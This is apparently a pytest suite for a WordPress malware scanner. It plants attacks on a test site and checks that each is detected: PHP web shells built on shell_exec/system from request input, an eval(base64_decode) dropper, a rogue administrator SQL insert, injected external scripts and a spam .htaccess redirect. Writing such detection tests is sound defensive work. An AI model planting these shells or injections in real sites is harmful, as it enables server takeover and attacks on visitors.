"""The security scan on a real WordPress: Debian's package copied into a site root, installed by WordPress's own
installer into the test MariaDB, scanned with the real yara CLI. Each attack is planted on its own on a clean
site and must be found with its severity; the clean site must score zero."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from carestack_agent import config as agent_config  # conftest puts agent/ on the path
from carestack_agent import exitcodes
from carestack_agent.actions import scan as scan_action
from carestack_agent.jobs import JobResult

from infra.agent_config import dumps

from .conftest import PLAN_JOBS, PLAN_PERF, PLAN_RETENTION, PLAN_UPDATES, ROOT, MariaDB, PushRecorder, write_secret

pytestmark = [
    pytest.mark.agent,
    pytest.mark.skipif(
        not Path("/usr/share/wordpress/wp-includes/version.php").exists(), reason="needs Debian's wordpress package"
    ),
    pytest.mark.skipif(shutil.which("yara") is None, reason="needs Debian's yara package"),
]

WORDPRESS = Path("/usr/share/wordpress")
_seq = itertools.count(1)

INSTALL = r"""<?php
define('WP_INSTALLING', true);
$_SERVER['HTTP_HOST'] = getenv('CS_DOMAIN');
require getenv('CS_ROOT') . '/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/upgrade.php';
wp_install('Scan test', 'owner', 'owner@example.org', true, '', 'not-a-real-password-' . getenv('CS_DOMAIN'));
"""
# A first page view: WordPress schedules its own cron hooks on `init`.
VISIT = r"""<?php
$_SERVER['HTTP_HOST'] = getenv('CS_DOMAIN');
require getenv('CS_ROOT') . '/wp-load.php';
"""

WP_CONFIG = """<?php
define('DB_NAME', '{db}');
define('DB_USER', 'root');
define('DB_PASSWORD', '');
define('DB_HOST', 'localhost:{socket}');
define('DB_CHARSET', 'utf8mb4');
define('DB_COLLATE', '');
$table_prefix = 'wp_';
define('WP_HOME', 'http://{domain}');
define('WP_SITEURL', 'http://{domain}');
define('AUTOMATIC_UPDATER_DISABLED', true);
define('DISABLE_WP_CRON', true);  // no loopback request to a domain that does not resolve here
if (!defined('ABSPATH')) {{
    define('ABSPATH', __DIR__ . '/');
}}
require_once ABSPATH . 'wp-settings.php';
"""


@dataclass
class WpSite:
    id: str
    root: Path
    db: str
    domain: str
    state_dir: Path
    config_path: Path
    mariadb: MariaDB
    scan: dict[str, Any]
    push: PushRecorder | None = None
    exclude: list[str] = field(default_factory=list)
    neighbours: list[Path] = field(default_factory=list)  # other sites' roots on the same host (no database)
    kind: str = "wordpress"

    def write_config(self) -> Path:
        secrets = self.config_path.parent / "secrets"
        write_secret(secrets / "restic-password", "unused by the scan\n")
        site: dict[str, Any] = {
            "domain": self.domain, "kind": self.kind, "root": str(self.root), "paths": [str(self.root)],
            "repository": str(self.config_path.parent / "repo"), "password_file": str(secrets / "restic-password"),
            "database": {"name": self.db, "socket": str(self.mariadb.socket)},
            "retention": PLAN_RETENTION | {"keep_daily": 7}, "jobs": PLAN_JOBS, "updates": PLAN_UPDATES,
            "perf": PLAN_PERF, "checks": [], "scan": self.scan, "exclude": self.exclude,
        }  # fmt: skip
        if self.push is not None:
            write_secret(secrets / "push.env", "SCAN=tok-scan-321\n")
            site |= {"push_base_url": self.push.base_url, "push_tokens_file": str(secrets / "push.env")}
        agent = {"host": "test-host", "state_dir": str(self.state_dir), "nice": 0}
        sites = {self.id: site}
        for n, other in enumerate(self.neighbours):
            sites[f"{self.id}-neighbour{n}"] = {
                **{k: v for k, v in site.items() if k not in ("database", "push_base_url", "push_tokens_file")},
                "domain": f"neighbour{n}.{self.domain}", "kind": "php", "root": str(other), "paths": [str(other)],
            }  # fmt: skip
        self.config_path.write_text(dumps({"agent": agent, "sites": sites}))
        return self.config_path

    def config(self) -> agent_config.Config:
        return agent_config.load(self.write_config())

    def scan_now(self, accept: bool = False) -> JobResult:
        return scan_action.scan(self.config(), self.id, accept=accept)

    def findings(self) -> list[dict[str, Any]]:
        return json.loads((self.state_dir / "scan" / self.id / "last.json").read_text())["findings"]

    def sql(self, statement: str) -> list[list[str]]:
        return self.mariadb.sql(statement, self.db)


@pytest.fixture(scope="session")
def wordpress_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Debian's WordPress as the lab's site setup copies it: links resolved, Debian's wp-config.php left out."""
    tree = tmp_path_factory.mktemp("wordpress") / "tree"
    shutil.copytree(WORDPRESS, tree, ignore=lambda d, names: ["wp-config.php"] if Path(d) == WORDPRESS else [])
    return tree


@pytest.fixture
def vuln_feed(tmp_path: Path) -> Path:
    feed = {
        "format": 1,
        "vulnerabilities": [
            {"type": "plugin", "slug": "akismet", "affected": ">=1.0 <2.0", "fixed_in": "2.0",
             "reference": "TEST-0001", "severity": "high", "title": "a version this site does not run"},
            {"type": "theme", "slug": "twentytwentythree", "affected": "<1.0", "fixed_in": "1.0",
             "reference": "TEST-0002", "severity": "medium"},
            {"type": "plugin", "slug": "carestack-test-form", "affected": ">=1.0 <1.4.2", "fixed_in": "1.4.2",
             "reference": "TEST-0003", "severity": "high", "title": "unauthenticated file upload"},
        ],
    }  # fmt: skip
    path = tmp_path / "feed.json"
    path.write_text(json.dumps(feed))
    return path


@pytest.fixture
def wp_site(tmp_path: Path, mariadb: MariaDB, wordpress_tree: Path, vuln_feed: Path) -> Callable[..., WpSite]:
    def factory(push: PushRecorder | None = None) -> WpSite:
        n = next(_seq)
        site_id, db, domain = f"wp{n}", f"scan_wp_{n}_{os.getpid()}", f"wp{n}.example"
        base = tmp_path / site_id
        root = base / "www"
        shutil.copytree(wordpress_tree, root, symlinks=True)
        (root / "wp-config.php").write_text(WP_CONFIG.format(db=db, socket=mariadb.socket, domain=domain))
        (root / "wp-content/uploads/2026/11").mkdir(parents=True)
        (root / "wp-content/uploads/2026/11/photo.jpg").write_bytes(b"\xff\xd8\xff\xe0" + os.urandom(2048))
        mariadb.sql(f"DROP DATABASE IF EXISTS {db}; CREATE DATABASE {db}")
        for name, php in (("install.php", INSTALL), ("visit.php", VISIT)):
            (base / name).write_text(php)
            subprocess.run(
                ["php", str(base / name)], check=True, capture_output=True, timeout=120,
                env={**os.environ, "CS_ROOT": str(root), "CS_DOMAIN": domain},
            )  # fmt: skip
        site = WpSite(
            site_id, root, db, domain, base / "state", base / "agent.toml", mariadb, {"feed": str(vuln_feed)}, push
        )
        accepted = site.scan_now(accept=True)
        assert accepted.ok, accepted.message
        return site

    return factory


def found(site: WpSite, check: str) -> list[dict[str, Any]]:
    return [f for f in site.findings() if f["check"] == check]


def only(site: WpSite, result: JobResult, check: str, severity: str, path: str | None = None) -> dict[str, Any]:
    """The scan failed on `check` with exactly the planted finding's severity and nothing else alarming."""
    assert not result.ok and result.exit_code == exitcodes.FAILED, result.message
    hits = [f for f in found(site, check) if path is None or f.get("path") == path]
    assert hits, site.findings()
    assert hits[0]["severity"] == severity, hits
    return hits[0]


# -- a clean site ------------------------------------------------------------------------------------------


def test_a_clean_wordpress_site_scores_zero(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    result = site.scan_now()
    assert result.ok, result.message
    assert site.findings() == []
    assert result.message == "no findings"
    baseline = site.state_dir / "scan" / site.id / "baseline.json"
    assert baseline.stat().st_mode & 0o777 == 0o600
    assert (baseline.parent.stat().st_mode & 0o777) == 0o700
    data = json.loads(baseline.read_text())
    assert data["database"]["admins"] == ["owner"]
    assert "wp_version_check" in data["database"]["cron_hooks"]  # WordPress's own hooks were recognised
    assert "wp-includes/version.php" in data["files"]


def test_a_php_site_with_its_own_database_takes_a_baseline_and_scores_zero(
    tmp_path: Path, mariadb: MariaDB, vuln_feed: Path
) -> None:
    """Not WordPress: its database has its own tables, which the WordPress checks must not read."""
    db = f"scan_php_{os.getpid()}"
    mariadb.sql(f"DROP DATABASE IF EXISTS {db}; CREATE DATABASE {db}; CREATE TABLE {db}.plans (id INT PRIMARY KEY)")
    root = tmp_path / "plans" / "www"
    root.mkdir(parents=True)
    (root / "index.php").write_text("<?php echo 'Plans';\n")
    site = WpSite(
        "plans", root, db, "plans.example", tmp_path / "state", tmp_path / "agent.toml", mariadb,
        {"feed": str(vuln_feed)}, kind="php",
    )  # fmt: skip
    accepted = site.scan_now(accept=True)
    assert accepted.ok and accepted.message == "baseline taken: 1 files", accepted.message
    scanned = site.scan_now()
    assert (scanned.ok, scanned.message, site.findings()) == (True, "no findings", [])


def test_a_no_change_rescan_hashes_nothing_and_a_restored_mtime_does_not_hide_a_change(
    wp_site: Callable[..., WpSite],
) -> None:
    site = wp_site()
    first = site.scan_now()
    assert first.ok and first.figures["hashed"] == 0 and first.figures["files"] > 1000, first.figures
    target = site.root / "wp-content/themes/twentytwentythree/patterns/hidden-404.php"
    st = target.stat()
    text = target.read_text()
    target.write_text(text.replace("<?php", "<?php /* x */", 1)[: len(text)])  # same size, other bytes
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))  # mtime put back: only ctime tells
    second = site.scan_now()
    assert second.figures["hashed"] == 1
    only(site, second, "integrity", "high", "wp-content/themes/twentytwentythree/patterns/hidden-404.php")


# -- each attack on its own --------------------------------------------------------------------------------


def test_obfuscated_php_in_uploads(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    payload = "ZWNobyAnb2snOw=="  # base64 of a harmless echo: the rule looks at the chain, not the payload
    (site.root / "wp-content/uploads/2026/11/cache.php").write_text(f"<?php @eval(base64_decode('{payload}'));\n")
    result = site.scan_now()
    only(site, result, "uploads", "critical", "wp-content/uploads/2026/11/cache.php")
    hit = only(site, result, "patterns", "critical", "wp-content/uploads/2026/11/cache.php")
    assert hit["detail"]["rule"] == "php_eval_decoded"
    assert site.findings()[0]["severity"] == "critical"  # ranked first


def test_modified_core_file(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    with open(site.root / "wp-includes/functions.php", "a") as f:
        f.write("\nadd_action('init', function () { /* planted */ });\n")
    result = site.scan_now()
    only(site, result, "core", "critical", "wp-includes/functions.php")
    assert "WordPress core file modified: wp-includes/functions.php" in result.message


def test_web_shell_in_a_plugin_directory(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    shell = site.root / "wp-content/plugins/akismet/views/helper.php"
    shell.write_text("<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c']); }\n")
    result = site.scan_now()
    hit = only(site, result, "patterns", "critical", "wp-content/plugins/akismet/views/helper.php")
    assert hit["detail"]["rule"] == "php_exec_from_request"
    only(site, result, "integrity", "high", "wp-content/plugins/akismet/views/helper.php")


def test_new_administrator_account(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    site.sql(
        "INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, display_name) "
        "VALUES ('wpsupport', 'x', 'wpsupport', 'x@example.net', NOW(), 'wpsupport');"
        "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) "
        "SELECT ID, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}' FROM wp_users WHERE user_login='wpsupport';"
    )
    result = site.scan_now()
    hit = only(site, result, "database", "critical")
    assert hit["message"] == "new administrator account: wpsupport"


def test_siteurl_changed_script_in_an_autoloaded_option_and_a_new_cron_hook(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    site.sql("UPDATE wp_options SET option_value='http://elsewhere.example' WHERE option_name='siteurl'")
    site.sql(
        "INSERT INTO wp_options (option_name, option_value, autoload) VALUES "
        "('widget_custom_footer', 'a:1:{s:4:\"text\";s:41:\"<script src=//elsewhere.example/x></script>\";}', 'yes')"
    )
    cron = site.sql("SELECT option_value FROM wp_options WHERE option_name='cron'")[0][0]
    hook = (
        'i:1999999999;a:1:{s:12:"wp_sync_link";a:1:{s:32:"40cd750bba9870f18aada2478b24840a";'
        'a:2:{s:8:"schedule";b:0;s:4:"args";a:0:{}}}}'
    )
    count = int(cron.split(":", 2)[1])
    patched = f"a:{count + 1}:{{{hook}" + cron.split("{", 1)[1]
    site.sql(f"UPDATE wp_options SET option_value='{patched}' WHERE option_name='cron'")
    result = site.scan_now()
    messages = {f["message"]: f["severity"] for f in found(site, "database")}
    assert messages[f"siteurl changed from http://wp{site.id[2:]}.example to http://elsewhere.example"] == "critical"
    assert messages["script or iframe in the autoloaded option widget_custom_footer (runs on every page)"] == "high"
    assert messages["new WordPress cron hook: wp_sync_link"] == "medium"
    assert not result.ok


def test_injected_script_in_a_theme(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    part = site.root / "wp-content/themes/twentytwentythree/parts/footer.html"
    with open(part, "a") as f:
        f.write('\n<script type="text/javascript" src="http://203.0.113.7/jquery.min.js"></script>\n')
    result = site.scan_now()
    hit = only(site, result, "patterns", "high", "wp-content/themes/twentytwentythree/parts/footer.html")
    assert hit["detail"]["rule"] == "theme_injected_script"


def test_malicious_htaccess_redirect(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    htaccess = site.root / ".htaccess"
    htaccess.write_text(
        htaccess.read_text()
        + "\nRewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing) [NC]\n"
        + "RewriteRule ^(.*)$ https://pills.example.net/?r=$1 [R=302,L]\n"
    )
    result = site.scan_now()
    hit = only(site, result, "patterns", "high", ".htaccess")
    assert hit["detail"]["hosts"] == ["pills.example.net"]


def test_an_htaccess_redirect_to_the_site_itself_is_not_a_finding(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    htaccess = site.root / ".htaccess"
    htaccess.write_text(htaccess.read_text() + f"\nRedirect 301 /old https://www.{site.domain}/new\n")
    site.scan_now(accept=True)
    result = site.scan_now()
    assert result.ok and site.findings() == [], site.findings()


def test_vulnerable_plugin_version_from_the_feed(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    plugin = site.root / "wp-content/plugins/carestack-test-form"
    plugin.mkdir()
    (plugin / "carestack-test-form.php").write_text("<?php\n/**\n * Plugin Name: Test form\n * Version: 1.4.1\n */\n")
    site.scan_now(accept=True)  # installed on purpose: only the feed must speak
    result = site.scan_now()
    hit = only(site, result, "vulns", "high")
    assert hit["message"] == (
        "plugin carestack-test-form 1.4.1 is vulnerable (TEST-0003: unauthenticated file upload); fixed in 1.4.2"
    )
    (plugin / "carestack-test-form.php").write_text("<?php\n/**\n * Plugin Name: Test form\n * Version: 1.4.2\n */\n")
    site.scan_now(accept=True)
    assert site.scan_now().ok


# -- the host, the monitor, failures -----------------------------------------------------------------------


def test_world_writable_directory_in_the_site_root(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    (site.root / "wp-content/uploads/2026").chmod(0o777)
    result = site.scan_now()
    hit = only(site, result, "host", "high", "wp-content/uploads/2026/")
    assert "anyone on the host can write" in hit["message"]


def test_a_file_owned_by_another_sites_user_is_found(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    neighbour = site.root.parent.parent / f"{site.id}-neighbour" / "www"
    neighbour.mkdir(parents=True)
    os.chown(neighbour, 4242, 4242)  # the other site's own user
    site.neighbours = [neighbour]
    assert site.scan_now().ok  # a neighbour alone is no finding
    planted = site.root / "wp-content/themes/twentytwentythree/theme.json"
    os.chown(planted, 4242, 4242)
    hit = only(site, site.scan_now(), "host", "high", "wp-content/themes/twentytwentythree/theme.json")
    assert (
        hit["message"]
        == f"wp-content/themes/twentytwentythree/theme.json is owned by the user of another site ({neighbour})"
    )


def test_deleted_files_are_reported_code_above_the_rest(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    (site.root / "wp-content/themes/twentytwentythree/theme.json").unlink()
    quiet = site.scan_now()
    assert quiet.ok, quiet.message  # a deleted data file is worth a line, not a page
    assert [(f["severity"], f["message"]) for f in site.findings()] == [
        ("info", "file deleted: wp-content/themes/twentytwentythree/theme.json")
    ]
    (site.root / "wp-content/plugins/akismet/akismet.php").unlink()
    again = site.scan_now()
    deleted = [(f["severity"], f["path"]) for f in found(site, "integrity")]
    assert ("medium", "wp-content/plugins/akismet/akismet.php") in deleted
    assert ("info", "wp-content/themes/twentytwentythree/theme.json") in deleted
    assert found(site, "integrity")[0]["path"] == "wp-content/plugins/akismet/akismet.php"  # code ranked first
    assert again.ok, again.message  # medium: in the scan's record and the report, no page


def test_critical_findings_push_the_scan_monitor_down_with_a_summary(
    wp_site: Callable[..., WpSite], push: PushRecorder
) -> None:
    site = wp_site(push=push)
    assert site.scan_now().ok
    assert push.requests[-1].startswith("/api/push/tok-scan-321?status=up&msg=no+findings")
    (site.root / "wp-content/uploads/2026/11/x.phtml").write_text("<?php system($_GET['c']);\n")
    assert not site.scan_now().ok
    last = push.requests[-1]
    assert last.startswith("/api/push/tok-scan-321?status=down&msg=scan+failed")
    assert "critical" in last and "x.phtml" in last


def test_a_check_that_cannot_run_fails_the_scan(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    site.scan = {"feed": str(site.config_path.parent / "missing-feed.json")}
    result = site.scan_now()
    assert not result.ok
    assert "check(s) could not run: vulns: vulnerability feed" in result.message


def test_the_cli_scans_and_accepts(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    env = {**os.environ, "CARESTACK_AGENT_CONFIG": str(site.write_config()), "PYTHONPATH": str(ROOT / "agent")}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "carestack_agent", *args], env=env, capture_output=True, text=True)

    assert cli("scan", site.id).returncode == 0
    (site.root / "wp-content/plugins/akismet/new.php").write_text("<?php // an extra file\n")
    bad = cli("scan", site.id)
    assert bad.returncode == exitcodes.FAILED and "new code file wp-content/plugins/akismet/new.php" in bad.stderr
    assert cli("scan", site.id, "--accept").returncode == 0
    assert cli("scan", site.id).returncode == 0


def test_the_scan_after_an_update_moves_the_baseline_to_the_updated_files(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    main = site.root / "wp-content/plugins/akismet/akismet.php"
    main.write_text(main.read_text().replace("Version: ", "Version: 99.", 1))  # what a plugin update changes
    after = scan_action.scan(site.config(), site.id, after_update=True)
    assert after.ok, after.message
    assert [f["severity"] for f in site.findings()] == ["info"]
    assert "baseline moved to the updated site" in after.message
    assert site.scan_now().ok and site.findings() == []


def test_the_scan_after_an_update_keeps_the_baseline_when_it_finds_an_attack(wp_site: Callable[..., WpSite]) -> None:
    site = wp_site()
    (site.root / "wp-content/plugins/akismet/akismet.php").write_text("<?php // updated\n")
    (site.root / "wp-content/uploads/2026/11/up.php").write_text("<?php echo 1;\n")
    after = scan_action.scan(site.config(), site.id, after_update=True)
    assert not after.ok and "baseline moved" not in after.message
    again = site.scan_now()
    only(site, again, "integrity", "high", "wp-content/plugins/akismet/akismet.php")  # still reported


def test_files_in_the_sites_caches_are_not_changes_but_code_there_is_still_judged(
    wp_site: Callable[..., WpSite],
) -> None:
    site = wp_site()
    site.exclude = [f"{site.root}/wp-content/cache"]  # the plan's backup excludes for WordPress
    cache = site.root / "wp-content/cache/page"
    cache.mkdir(parents=True)
    (cache / "index-https.php").write_text("<?php exit; ?><html><body>cached page</body></html>\n")
    assert site.scan_now().ok and site.findings() == []
    (cache / "x.php").write_text("<?php eval(base64_decode('ZWNobyAx'));\n")
    result = site.scan_now()
    only(site, result, "patterns", "critical", "wp-content/cache/page/x.php")
    assert found(site, "integrity") == []
